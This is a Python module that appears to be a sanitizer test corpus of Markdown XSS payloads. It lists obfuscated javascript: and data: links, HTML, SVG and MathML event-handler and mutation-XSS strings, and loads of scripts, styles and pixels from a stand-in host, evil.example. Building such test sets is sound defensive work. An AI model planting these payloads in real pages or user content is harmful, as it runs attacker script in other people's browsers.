"""Ways to smuggle something active into Markdown, as published in cheat sheets and in advisories of Markdown libraries."""

from __future__ import annotations

LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;&#97;vascript:alert(1)", "&#x6A;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "\x01javascript:alert(1)", "javascript%3Aalert(1)",
    "javascript://example.org/%0Aalert(1)", "javascript:void(0)//https://example.org", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x", "vbscript:msgbox(1)", "livescript:x", "file:///etc/passwd",
    "blob:https://example.org/x", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "https:evil.example",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "mhtml:x!y", "jar:x!/y", "filesystem:x", "about:blank",
    "\u0000javascript:alert(1)", "javascript\u0000:alert(1)", "\u2028javascript:alert(1)", "java\u00adscript:alert(1)",
]  # fmt: skip
RAW = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>", "<script\x20type=text/javascript>alert(1);</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>", "<script x>alert(1)</script y>",
    "<img src=x onerror=alert(1)>", '<img src="x" onerror="alert(1)"/>', "<img src=x:x onerror=alert(1)>", '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`javascript:alert(1)`>", "<img src=javascript:alert(1)>", '<img src="/x.png" onload=alert(1)>', "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>", "<img srcset='x onerror=alert(1)'>", "<img src=//evil.example/pixel.png>", "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math href=javascript:alert(1)>x</math>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)></object>", "<applet code=x></applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>", "<style>*{background:url(//evil.example)}</style>", "<style>@import'//evil.example';</style>",
    "<div style=background:url(javascript:alert(1))>x</div>", "<div style='position:fixed;inset:0'>x</div>", "<p style=\"x:expression(alert(1))\">x</p>",
    "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>", "<form action=javascript:alert(1)><input type=submit></form>", "<isindex action=javascript:alert(1)>",
    "<video onerror=alert(1)><source></video>", "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)//>", "<video src=//evil.example/x>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<a onmouseover=alert(1)>x</a>", "<a href=x onclick=alert(1)>x</a>",
    "<a href='x' target='_blank' ping='//evil.example'>x</a>", "<a href=\"javascript&Tab;:alert(1)\">x</a>", "<a href=\"javas&NewLine;cript:alert(1)\">x</a>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example></layer>",
    "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>", "<template><script>alert(1)</script></template>", "<slot name=x onslotchange=alert(1)>",
    "<portal src=//evil.example>", "<dialog open onclose=alert(1)>x</dialog>", "<x onclick=alert(1)>x</x>", "<x contenteditable onblur=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;",
    "<div hx-get=/evil hx-trigger=load>x</div>", "<div data-hx-post=/evil data-hx-trigger=load>x</div>", "<div hx-on:load=alert(1)>x</div>", "<p id=content>x</p>",
    "<a name=csrf_token>x</a>", "<form><input name=action></form>", "<img name=body src=/x.png>", "<p class='toast visually-hidden'>x</p>",
    "`<script>`<script>alert(1)</script>", "```\n</code></pre><script>alert(1)</script>\n```", "    </code><script>alert(1)</script>",
    "~~~\"><script>alert(1)</script>\nx\n~~~", "```js\" onmouseover=\"alert(1)\nx\n```", "# <script>alert(1)</script>", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>", "1. <svg/onload=alert(1)>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "**<script>alert(1)</script>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "<script>alert(1)\n\n</script>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>", "<http://example.org/\"onmouseover=\"alert(1)>", "<javascript:alert(1)>", "<data:text/html,x>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]  # fmt: skip
WRAPPED = [
    "[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}>)", "[x]: {}\n\n[x]", "<{}>", '<a href="{}">x</a>', "<a href='{}'>x</a>", '<img src="{}">', "[![x]({0})]({0})",
    '[x](https://a.example "{}")', "[x]({} 'title')",
]  # fmt: skip
MARKDOWN = [*RAW, *(wrapper.format(link) for link in LINKS for wrapper in WRAPPED)]
